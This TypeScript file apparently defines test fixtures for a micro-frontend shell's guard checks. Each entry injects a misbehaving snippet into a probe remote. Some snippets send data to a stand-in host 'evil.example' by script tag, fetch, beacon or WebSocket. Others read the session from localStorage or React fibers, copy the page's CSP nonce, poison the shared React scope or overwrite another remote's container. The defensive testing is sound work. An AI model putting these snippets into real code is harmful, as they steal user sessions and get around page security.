import type { Kind } from '../kind';
import type { Probe } from '../probe';

const code = (statements: Partial<Probe['code']>) => (probe: Probe) => Object.assign(probe.code, statements);
const floating = (css: string) => (probe: Probe) => {
  probe.given.slots = [{ slot: 'floating', module: './ProbeItem', order: 1 }];
  probe.css += css;
};

/** Code that reaches into the shell, the player's data or another remote. */
export const intrusionKinds: readonly Kind[] = [
  {
    name: 'floating over all',
    wrong: 'has a floating item over the whole shell',
    files: [],
    run: ['layout'],
    spoil: (probe) => {
      floating('')(probe);
      // The page's styles load with the page; a header item brings its own.
      probe.code.item =
        'react.useEffect(()=>{Object.assign(document.querySelector(".probe-item").style,{position:"fixed",inset:0,zIndex:99999,background:"#fff"})})';
    },
  },
  {
    name: 'adopted style sheet',
    wrong: 'adopts a style sheet for the whole document',
    files: ['shell-access'],
    run: ['global-css', 'layout'],
    spoil: code({
      effect:
        'const sheet=new CSSStyleSheet;sheet.replaceSync("header{display:none}");document.adoptedStyleSheets=[sheet]',
    }),
  },
  {
    name: 'style with a copied nonce',
    wrong: 'adds a style element with the page’s nonce',
    files: [],
    run: ['policy'],
    spoil: code({
      effect:
        'const style=document.createElement("style");style.nonce=document.querySelector("[nonce]")?.nonce??"";style.textContent="header{display:none}";document.head.append(style)',
    }),
  },
  {
    name: 'clears the body',
    wrong: 'removes everything',
    files: ['shell-access'],
    run: ['layout', 'shell-access'],
    spoil: code({ effect: 'document.body.replaceChildren()' }),
  },
  {
    name: 'removes the header',
    wrong: 'removes the shell’s header',
    files: [],
    run: ['layout', 'shell-access'],
    spoil: code({ effect: 'document.querySelector("header").remove()' }),
  },
  {
    name: 'stops events',
    wrong: 'stops every click before the shell hears it',
    files: [],
    run: ['cleanup', 'layout'],
    spoil: code({ effect: 'addEventListener("click",(event)=>event.stopImmediatePropagation(),true)' }),
  },
  {
    name: 'overlay',
    wrong: 'lays an element over the page',
    files: ['shell-access'],
    run: ['cleanup', 'layout'],
    spoil: code({
      effect:
        'const over=document.createElement("div");Object.assign(over.style,{position:"fixed",inset:0,zIndex:99999});document.body.append(over)',
    }),
  },
  {
    name: 'patches Array.prototype.map',
    wrong: 'replaces a method of all arrays',
    files: ['intrinsic'],
    run: ['intrinsic'],
    spoil: code({
      module: 'const map=Array.prototype.map;Array.prototype.map=function(...given){return map.apply(this,given)}',
    }),
  },
  {
    name: 'replaces Intl’s numbers',
    wrong: 'replaces how all code writes amounts',
    files: [],
    run: ['intrinsic'],
    spoil: code({
      module: 'const[it]=[Intl];it.NumberFormat=function(){return{format:()=>"0"}}',
    }),
  },
  {
    name: 'patches Intl’s dates',
    wrong: 'replaces a member of Intl that has no name of its own',
    files: [],
    run: ['intrinsic'],
    spoil: code({
      module:
        'const[it]=[Intl];Object.defineProperty(it.DateTimeFormat.prototype,"format",{get(){return()=>"never"},configurable:true})',
    }),
  },
  {
    name: 'replaces Intl',
    wrong: 'replaces the whole of Intl',
    files: [],
    run: ['intrinsic'],
    spoil: code({ module: 'const[all]=[globalThis];all.Intl={...Intl,NumberFormat:Intl.NumberFormat}' }),
  },
  {
    name: 'patches iterators',
    wrong: 'replaces how all lists are walked through',
    files: [],
    run: ['intrinsic'],
    spoil: code({
      module:
        'const[one]=[Object.getPrototypeOf([][Symbol.iterator]())],next=one.next;one.next=function(){return next.call(this)}',
    }),
  },
  {
    name: 'removes a function',
    wrong: 'removes a method of all lists',
    files: [],
    run: ['intrinsic'],
    spoil: code({ module: 'const[all]=[Array.prototype];delete all.findLastIndex' }),
  },
  {
    name: 'adds to Object.prototype',
    wrong: 'gives every object a property',
    files: ['intrinsic'],
    run: ['intrinsic'],
    spoil: code({ module: 'Object.defineProperty(Object.prototype,"probe",{value:1,configurable:true})' }),
  },
  {
    name: 'patches history',
    wrong: 'replaces how the shell changes addresses',
    files: ['intrinsic'],
    run: ['intrinsic'],
    spoil: code({
      module: 'const push=history.pushState;history.pushState=function(...given){return push.apply(this,given)}',
    }),
  },
  {
    name: 'writes the history',
    wrong: 'changes the address by itself',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'history.replaceState(null,"","/slots")' }),
  },
  {
    name: 'sets the title',
    wrong: 'sets the title of the page',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'document.title="Probe wins"' }),
  },
  {
    name: 'reload loop',
    wrong: 'loads the page again, and again',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'setTimeout(()=>location.reload(),50)' }),
  },
  {
    name: 'overwrites storage',
    wrong: 'overwrites what the shell keeps',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'localStorage.setItem("marquee.session","{}")' }),
  },
  {
    name: 'clears storage',
    wrong: 'removes what the shell keeps',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'localStorage.clear()' }),
  },
  {
    name: 'reads the session',
    wrong: 'reads the session from storage',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'const seen=localStorage.getItem("marquee.session")' }),
  },
  {
    name: 'reads React’s fibers',
    wrong: 'reads the session out of the shell’s components',
    files: ['shell-access'],
    spoil: code({
      effect:
        'const node=document.querySelector("header");const key=Object.keys(node).find((name)=>name.startsWith("__reactFiber$"));const seen=node[key]',
    }),
  },
  {
    name: 'script of another host',
    wrong: 'sends what it has read away by a script’s address',
    files: ['foreign-origin'],
    run: ['policy'],
    spoil: code({
      effect:
        'try{const s=document.createElement("script");s.src="https://evil.example/a.js?t=1";document.head.append(s)}catch{}',
    }),
  },
  {
    name: 'leaves the site',
    wrong: 'sends the player to another site',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({ effect: 'setTimeout(()=>{location.href="https://evil.example/?t=1"},50)' }),
  },
  {
    name: 'opens a window',
    wrong: 'opens a window of another site',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({ effect: 'open("https://evil.example/?t=1")' }),
  },
  {
    name: 'asks another host',
    wrong: 'sends requests to another host',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({ effect: 'fetch("https://evil.example/?t=1").catch(()=>{})' }),
  },
  {
    name: 'asks the API itself',
    wrong: 'calls the backend past the sdk',
    files: [],
    run: ['foreign-origin'],
    spoil: code({ effect: 'fetch("/api/wallet/get_balance",{method:"POST",body:"{}"}).catch(()=>{})' }),
  },
  {
    name: 'beacon',
    wrong: 'sends a beacon to another host',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({ effect: 'navigator.sendBeacon("https://evil.example/","t")' }),
  },
  {
    name: 'broadcast',
    wrong: 'speaks to the other tabs of the player',
    files: [],
    run: ['shell-access'],
    spoil: code({
      effect: 'const all=new BroadcastChannel("marquee");all.postMessage({type:"logout"});const end=()=>all.close()',
      leave: 'end()',
    }),
  },
  {
    name: 'socket',
    wrong: 'opens a socket to another host',
    files: ['foreign-origin'],
    run: ['foreign-origin'],
    spoil: code({ effect: 'try{new WebSocket("wss://evil.example/")}catch{}' }),
  },
  {
    name: 'patches fetch',
    wrong: 'replaces the page’s fetch; another remote is blamed for what fails',
    files: ['intrinsic'],
    run: ['intrinsic'],
    spoil: code({ module: 'globalThis.fetch=()=>Promise.reject(Error("spoiled fetch"))' }),
  },
  {
    name: 'poisons the share scope',
    wrong: 'replaces the React that the other remotes get',
    files: [],
    run: ['failure'],
    spoil: code({
      entry:
        'const first=setInterval(()=>{if(!scope)return;clearInterval(first);for(const one of Object.values(scope.react)){one.lib=()=>({});one.get=async()=>()=>({})}},0)',
    }),
  },
  {
    name: 'overwrites a container',
    wrong: 'puts itself in the place of another remote',
    files: ['global'],
    run: ['global'],
    spoil: code({ entry: 'globalThis.marquee_slots_1_0_0={init(){},get:async()=>()=>({LobbyPage:()=>"Probe"})}' }),
  },
  {
    name: 'cookies',
    wrong: 'writes cookies',
    files: ['shell-access'],
    run: ['shell-access'],
    spoil: code({ effect: 'document.cookie="probe=1"' }),
  },
  {
    name: 'service worker',
    wrong: 'registers a service worker',
    files: ['shell-access'],
    spoil: code({ effect: 'navigator.serviceWorker.register("/sw.js").catch(()=>{})' }),
  },
  {
    name: 'writes the document',
    wrong: 'writes markup into the document',
    files: ['shell-access'],
    spoil: code({ effect: 'try{document.write("<p>Probe")}catch{}' }),
  },
  {
    name: 'locks the page',
    wrong: 'stops the page from being scrolled',
    files: ['shell-access'],
    run: ['cleanup'],
    spoil: code({ effect: 'document.documentElement.style.overflow="hidden"' }),
  },
  {
    name: 'moves the header',
    wrong: 'moves what the shell draws',
    files: [],
    run: ['layout'],
    spoil: code({ effect: 'document.querySelector("header").style.marginTop="80px"' }),
  },
  {
    name: 'takes the focus',
    wrong: 'takes the focus every second',
    files: [],
    run: ['shell-access'],
    spoil: code({
      effect: 'const t=setInterval(()=>document.querySelector(".probe-page button").focus(),100)',
      leave: 'clearInterval(t)',
    }),
  },
  {
    name: 'global of its own',
    wrong: 'leaves a global that is no bundler’s',
    files: ['global'],
    run: ['global'],
    spoil: code({ module: 'globalThis.config={probe:1}' }),
  },
];
